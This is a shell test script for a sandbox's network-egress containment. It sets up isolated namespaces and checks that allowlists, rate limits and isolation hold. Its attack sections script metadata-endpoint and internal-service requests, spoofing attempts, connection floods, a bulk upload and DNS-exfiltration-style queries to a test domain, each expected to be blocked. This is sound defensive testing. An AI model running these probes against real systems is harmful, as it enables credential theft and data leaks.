#!/bin/sh
# SPDX-License-Identifier: MIT
# Network egress for elevated runs (issue 13), in network namespaces of the
# test's own, never the host's:
#   node:     autoosctl runs here (nsenter --net); uplink up0 192.0.2.1/24,
#             default route via the internet; the runs' pool 198.51.100.0/24
#   internet: inet0 192.0.2.2/24; 203.0.113.10 an HTTP server, 203.0.113.53 a
#             DNS responder, 203.0.113.99 a TCP sink (port 9)
# An elevated run fetches from the allowlisted server; each attack of the
# issue's list is contained and what it tried is named in the result.
. "${top_srcdir:-$(dirname "$0")/../..}/tests/lib.sh"
need_root
need_cmd jq ip nsenter busybox curl
need_built
PEER=$top_builddir/tests/net/egress-peer
[ -x "$PEER" ] || bail_out "$PEER not built (make check builds it)"

tag=$(($$ % 100000))
NODE=autoos-egress-node-$tag
NET=autoos-egress-net-$tag
PREFIX=e$tag # links and nftables names: <prefix><slot>
ip netns add "$NODE" 2>/dev/null || skip_all "cannot create network namespaces (ip netns add)"
at_exit "ip netns del $NODE"
ip netns add "$NET" || bail_out "ip netns add $NET"
at_exit "ip netns del $NET"
at_exit "rm -rf /run/autoos/egress-$PREFIX"
ip -n "$NODE" link add up0 type veth peer name inet0 netns "$NET" 2>/dev/null ||
        skip_all "no veth support in this kernel"
ip -n "$NODE" link set lo up
ip -n "$NET" link set lo up
ip -n "$NODE" addr add 192.0.2.1/24 dev up0
ip -n "$NODE" link set up0 up
ip -n "$NET" addr add 192.0.2.2/24 dev inet0
ip -n "$NET" link set inet0 up
for a in 203.0.113.10 203.0.113.53 203.0.113.99; do ip -n "$NET" addr add $a/32 dev lo; done
ip -n "$NODE" route add default via 192.0.2.2
# The node's own namespace: a per-namespace setting, not the host's.
ip netns exec "$NODE" sh -c 'echo 1 >/proc/sys/net/ipv4/ip_forward'

# Nothing in either namespace leads to the host's interfaces.
links=$(ip -n "$NODE" -o link show | awk -F': ' '{print $2}' | cut -d@ -f1 | sort | tr '\n' ' ')
is "$links" "lo up0 " "the node namespace holds only lo and its uplink"
links=$(ip -n "$NET" -o link show | awk -F': ' '{print $2}' | cut -d@ -f1 | sort | tr '\n' ' ')
is "$links" "inet0 lo " "the internet namespace holds only lo and its end of the uplink"
routes=$( (ip -n "$NODE" -4 route show table all; ip -n "$NET" -4 route show table all) |
        grep -v -E 'dev (lo|up0|inet0)( |$)' | grep -v -E '^(local|broadcast) ')
is "$routes" "" "every route in the test's namespaces goes through lo, up0 or inet0"

# The internet: HTTP, DNS, a sink.
mkdir -p "$TEST_TMP/www"
echo hello-egress >"$TEST_TMP/www/hello.txt"
head -c 3145728 /dev/zero >"$TEST_TMP/www/big"
echo node-secret >"$TEST_TMP/www/secret.txt"
ip netns exec "$NET" busybox httpd -f -p 203.0.113.10:80 -h "$TEST_TMP/www" &
at_exit "kill $!"
STATS=$TEST_TMP/peer.stats
ip netns exec "$NET" "$PEER" "$STATS" 203.0.113.53 203.0.113.10 203.0.113.99 9 &
at_exit "kill $!"
# The node's own service, which no run may reach.
ip netns exec "$NODE" busybox httpd -f -p 8081 -h "$TEST_TMP/www" &
at_exit "kill $!"
stat_of() { awk -F= -v k="$1" '$1 == k { print $2 }' "$STATS" 2>/dev/null; }
deadline=$(($(date +%s) + 30))
until [ -s "$STATS" ] && ip netns exec "$NET" busybox wget -q -O /dev/null http://203.0.113.10/hello.txt 2>/dev/null; do
        [ "$(date +%s)" -lt "$deadline" ] || bail_out "the internet namespace's servers did not start"
        sleep 0.1
done

cat >"$TEST_TMP/node.conf" <<EOF
egress_uplink = up0
egress_pool = 198.51.100.0/24
egress_resolvers = 203.0.113.53
egress_prefix = $PREFIX
EOF
BW=1048576
cat >"$TEST_TMP/policy.json" <<EOF
{"levels":{"elevated":{"network":{"egress":{
  "allow":[{"cidr":"203.0.113.10/32","protocol":"tcp","ports":"80"},
           {"cidr":"203.0.113.99/32","protocol":"tcp","ports":"9"}],
  "bandwidth_bytes":$BW,"connections":8,"packets_per_second":5000,"dns_queries_per_second":5}}}}}
EOF

# autoosctl, started in the node's network namespace only (its mounts stay the host's).
REAL_AUTOOSCTL=$AUTOOSCTL
AUTOOSCTL=$TEST_TMP/autoosctl-in-node
printf '#!/bin/sh\nexec nsenter --net=/run/netns/%s %s "$@"\n' "$NODE" "$REAL_AUTOOSCTL" >"$AUTOOSCTL"
chmod +x "$AUTOOSCTL"
EGRESS="--trust elevated --net egress --policy $TEST_TMP/policy.json --node-config $TEST_TMP/node.conf"

# refused DEST: DEST ("addr:port/proto") is among the last run's refused destinations with a count.
refused() {
        printf '%s' "$RUN_JSON" | jq -e --arg d "$1" \
                '(.egress_refused | index($d)) as $i | $i != null and .egress_refused_counts[$i] > 0' >/dev/null
}

# --- without egress settings: rejected, naming why ---------------------------
run_json --trust elevated --net egress --policy "$TEST_TMP/policy.json" --node-config /nonexistent -- /bin/true
is "$(jf .outcome)" rejected "a node without egress settings rejects an egress run"
like "$(jf .error)" "network: egress is not configured on this node\$" "and names why"

# --- the allowlisted server ----------------------------------------------------
dns_before=$(stat_of dns_queries)
# shellcheck disable=SC2086
run_json $EGRESS -- /bin/sh -c '
echo "fetched=$(curl -sS --max-time 20 http://203.0.113.10/hello.txt)"
echo "addr=$(ip -4 -o addr show eth0 | awk "{print \$4}")"
echo "route=$(ip route show default)"
echo "lo=$(ip -o link show lo | grep -c UP)"
echo "resolv=$(tr "\n" ";" </etc/resolv.conf)"
echo "resolv_write=$( (echo nameserver 203.0.113.99 >/etc/resolv.conf) 2>/dev/null && echo written || echo refused)"
echo "resolv_move=$(mv /etc/resolv.conf /tmp/r 2>/dev/null && echo moved || echo refused)"
echo "lookup=$(getent ahostsv4 api.example.test | awk "NR == 1 { print \$1 }")"'
is "$(jf .outcome)" exited "an elevated egress run exits normally"
[ "$(jf .outcome)" = exited ] || diag "result: $RUN_JSON"
is "$(out fetched)" hello-egress "it fetches from the allowlisted HTTP server"
like "$(out addr)" '^198\.51\.100\.[0-9]+/30$' "its address is a /30 of the node's pool ($(out addr))"
like "$(out route)" '^default via 198\.51\.100\.[0-9]+ dev eth0' "its default route goes through its own link"
cmp_ok "$(jf .egress_sent_packets)" '>' 0 "the result counts packets sent ($(jf .egress_sent_packets))"
cmp_ok "$(jf .egress_received_bytes)" '>' 100 "and bytes received ($(jf .egress_received_bytes))"
is "$(jf '.egress_refused | length')" 0 "nothing refused for an allowed fetch"
is "$(ip -n "$NODE" -o link show | grep -c " $PREFIX[0-9]")" 0 "the run's link went with it"
is "$(out resolv)" "nameserver 203.0.113.53;" "its /etc/resolv.conf names exactly the node's resolvers"
is "$(out resolv_write)" refused "the run cannot write its /etc/resolv.conf"
is "$(out resolv_move)" refused "nor move it away"
is "$(out lookup)" 203.0.113.10 "a lookup through the libc resolver gets the test's DNS responder's answer"
cmp_ok "$(stat_of dns_queries)" '>' "$dns_before" "the resolver asked is the listed one ($dns_before -> $(stat_of dns_queries) queries)"
is "$(stat -c %a "/run/autoos/egress-$PREFIX/resolv.conf" 2>/dev/null)" 644 "the node's resolv.conf is mode 0644"

# --- a plain loopback run: no resolver -------------------------------------------
run_json --net loopback -- /bin/sh -c 'echo "size=$(wc -c </etc/resolv.conf)"'
is "$(jf .outcome)" exited "a loopback run exits normally"
is "$(out size)" 0 "a loopback run's /etc/resolv.conf is empty"

# --- attacks from inside a run -------------------------------------------------
# shellcheck disable=SC2086
run_json $EGRESS -- /bin/sh -c '
t() { curl -sS --max-time 2 -o /dev/null "$1" 2>/dev/null && echo reached || echo failed; }
echo "metadata=$(t http://169.254.169.254/latest/meta-data/)"
echo "node_uplink=$(t http://192.0.2.1:8081/secret.txt)"
echo "node_gateway=$(t http://$(ip route show default | awk "{print \$3}"):8081/secret.txt)"
echo "loopback_net=$(t http://127.0.0.2:8081/)"
echo "rfc1918=$(t http://10.1.2.3/)"
echo "port=$(t http://203.0.113.10:8080/)"
echo "host=$(t http://203.0.113.99/)"
echo "multicast=$(bash -c "echo x >/dev/udp/224.0.0.251/5353" 2>/dev/null; echo sent)"
echo "dns_other=$(busybox nslookup -type=a x.test 203.0.113.99 >/dev/null 2>&1 && echo answered || echo failed)"
echo "dns_listed=$(busybox nslookup -type=a x.test 203.0.113.53 2>/dev/null | grep -c 203.0.113.10)"
echo "raw=$(busybox arping -c 1 -w 1 -I eth0 198.51.100.1 >/dev/null 2>&1 && echo sent || echo refused)"
echo "ping_raw=$(busybox ping -c 1 -W 1 203.0.113.10 >/dev/null 2>&1 && echo sent || echo refused)"
echo "addr_change=$(ip addr add 198.51.100.77/30 dev eth0 2>/dev/null && echo changed || echo refused)"
echo "mac_change=$(ip link set eth0 address 02:00:00:00:00:01 2>/dev/null && echo changed || echo refused)"
echo "route_change=$(ip route add 192.0.2.0/24 dev eth0 2>/dev/null && echo changed || echo refused)"'
is "$(jf .outcome)" exited "the attack run ends normally"
for what in metadata node_uplink node_gateway loopback_net rfc1918 port host; do
        is "$(out $what)" failed "attack contained: reach $what"
done
ok "refused: the metadata address" refused 169.254.169.254:80/tcp
ok "refused: the node's uplink address" refused 192.0.2.1:8081/tcp
gw=$(printf '%s' "$RUN_JSON" | jq -r '.egress_refused[]' | grep ':8081/tcp' | grep '^198\.51\.100\.' | head -1)
ok "refused: the node's own end of the run's link ($gw)" test -n "$gw"
ok "refused: RFC 1918" refused 10.1.2.3:80/tcp
ok "refused: a port not on the allowlist" refused 203.0.113.10:8080/tcp
ok "refused: an address not on the allowlist" refused 203.0.113.99:80/tcp
ok "refused: multicast" refused 224.0.0.251:5353/udp
is "$(out dns_other)" failed "attack contained: DNS to a resolver not on the list"
ok "refused: DNS to a resolver not on the list" refused 203.0.113.99:53/udp
cmp_ok "$(out dns_listed)" '>=' 1 "DNS to the node's resolver answers"
is "$(out raw)" refused "attack contained: ARP spoofing (no packet socket)"
is "$(out ping_raw)" refused "attack contained: raw ICMP sockets"
is "$(out addr_change)" refused "attack contained: IP spoofing by adding an address"
is "$(out mac_change)" refused "attack contained: changing the link's MAC"
is "$(out route_change)" refused "attack contained: changing the run's routes"

# --- another run ---------------------------------------------------------------
# shellcheck disable=SC2086
run_json_start victim $EGRESS -- /bin/sh -c '
ip -4 -o addr show eth0 | awk "{print \$4}" | cut -d/ -f1 >/work/addr
echo "addr=$(cat /work/addr)"
timeout 8 busybox nc -l -p 7000 >/dev/null 2>&1 && echo victim=reached || echo victim=alone'
sleep 1 # the victim has its address long before it stops listening (8 s)
# shellcheck disable=SC2086
run_json $EGRESS -- /bin/sh -c '
for a in 2 6 10 14 18; do busybox nc -w 1 198.51.100.$a 7000 </dev/null >/dev/null 2>&1 && echo "reached=$a"; done
echo done=1'
attacker=$RUN_JSON
run_json_finish victim
victim_addr=$(out addr)
is "$(out victim)" alone "attack contained: another run is not reachable"
ok "refused: the other run's address ($victim_addr:7000/tcp)" sh -c "printf '%s' '$attacker' | jq -e --arg d '$victim_addr:7000/tcp' '.egress_refused | index(\$d) != null' >/dev/null"
is "$(out reached "$attacker")" "" "no other run's address answered"

# --- bandwidth, each way -------------------------------------------------------
# shellcheck disable=SC2086
run_json $EGRESS --timeout 60s -- /bin/sh -c '
echo "down=$(curl -sS --max-time 30 -o /dev/null -w "%{speed_download}" http://203.0.113.10/big)"
head -c 3145728 /dev/zero >/work/blob
curl -sS --max-time 30 -T /work/blob telnet://203.0.113.99:9 >/dev/null 2>&1
echo up=sent'
down=$(out down)
lo=$((BW * 90 / 100))
hi=$((BW * 110 / 100))
ok "download rate ${down%.*} B/s within 10% of the limit $BW" awk -v r="$down" -v lo=$lo -v hi=$hi 'BEGIN { exit !(r >= lo && r <= hi) }'
deadline=$(($(date +%s) + 30))
until [ "$(stat_of last_bytes)" = 3145728 ] || [ "$(date +%s)" -ge "$deadline" ]; do sleep 0.2; done
up=$(awk -v b="$(stat_of last_bytes)" -v us="$(stat_of last_us)" 'BEGIN { if (us > 0) printf "%d", b / (us / 1e6); else print 0 }')
ok "upload rate $up B/s within 10% of the limit $BW ($(stat_of last_bytes) bytes)" test "$up" -ge $lo -a "$up" -le $hi
cmp_ok "$(jf .egress_received_bytes)" '>=' 3145728 "received bytes count the download ($(jf .egress_received_bytes))"
cmp_ok "$(jf .egress_sent_bytes)" '>=' 3145728 "sent bytes count the upload ($(jf .egress_sent_bytes))"

# --- conntrack exhaustion --------------------------------------------------------
before=$(stat_of sink_accepted)
# shellcheck disable=SC2086
run_json $EGRESS -- /bin/sh -c '
i=0; while [ $i -lt 30 ]; do (sleep 6 | busybox nc -w 8 203.0.113.99 9 >/dev/null 2>&1) & i=$((i + 1)); done
wait; echo done=1'
max=$(stat_of sink_max_conns)
cmp_ok "$max" '<=' 8 "attack contained: conntrack exhaustion (at most 8 connections open at once, saw $max)"
cmp_ok "$(($(stat_of sink_accepted) - before))" '>=' 4 "the connection limit still lets connections through"
ok "refused: connections over the limit" refused 203.0.113.99:9/tcp

# --- a flood of DNS queries ------------------------------------------------------
before=$(stat_of dns_queries)
# shellcheck disable=SC2086
run_json $EGRESS -- /bin/sh -c '
i=0; while [ $i -lt 200 ]; do busybox nslookup -type=a "d$i-c2VjcmV0.smuggle.test" 203.0.113.53 >/dev/null 2>&1 & i=$((i + 1)); done
wait; echo done=1'
got=$(($(stat_of dns_queries) - before))
secs=$((($(jf .wall_ms) + 999) / 1000))
bound=$((5 * secs + 5))
cmp_ok "$got" '<=' "$bound" "attack contained: a DNS flood reaches the resolver at 5 queries/s ($got in ${secs}s)"
ok "refused: DNS queries over the rate" refused 203.0.113.53:53/udp

# --- cleanup, and after a SIGKILL ------------------------------------------------
is "$(ip -n "$NODE" -o link show | grep -c " $PREFIX[0-9]")" 0 "no run link is left after the runs"
if command -v nft >/dev/null 2>&1; then
        is "$(nsenter --net=/run/netns/"$NODE" nft list table inet autoos_$PREFIX | grep -c "chain $PREFIX[0-9]")" 0 \
                "no run chain is left in the node's table"
else
        skip 1 "no nft program to list the table with"
fi
# A supervisor killed with SIGKILL: its run dies with it (and its link with its namespace),
# its rules stay until the next start on the node removes them.
chains() { nsenter --net=/run/netns/"$NODE" nft list table inet autoos_$PREFIX | grep -c "chain $PREFIX[0-9]"; }
# shellcheck disable=SC2086
"$AUTOOSCTL" run $EGRESS -- /bin/sleep 60 </dev/null >/dev/null 2>&1 &
victim=$!
deadline=$(($(date +%s) + 30))
until [ "$(ip -n "$NODE" -o link show | grep -c " $PREFIX[0-9]")" -ge 1 ] || [ "$(date +%s)" -ge "$deadline" ]; do sleep 0.1; done
kill -9 "$victim"
wait "$victim" 2>/dev/null
if command -v nft >/dev/null 2>&1; then
        cmp_ok "$(chains)" '>=' 1 "a SIGKILLed supervisor leaves its run's rules behind"
else
        skip 1 "no nft program to list the table with"
fi
# shellcheck disable=SC2086
run_json $EGRESS -- /bin/true
is "$(jf .outcome)" exited "the next egress run starts"
is "$(ip -n "$NODE" -o link show | grep -c " $PREFIX[0-9]")" 0 "no run link is left"
if command -v nft >/dev/null 2>&1; then
        is "$(chains)" 0 "and the next start removed the killed one's rules"
else
        skip 1 "no nft program to list the table with"
fi
done_testing
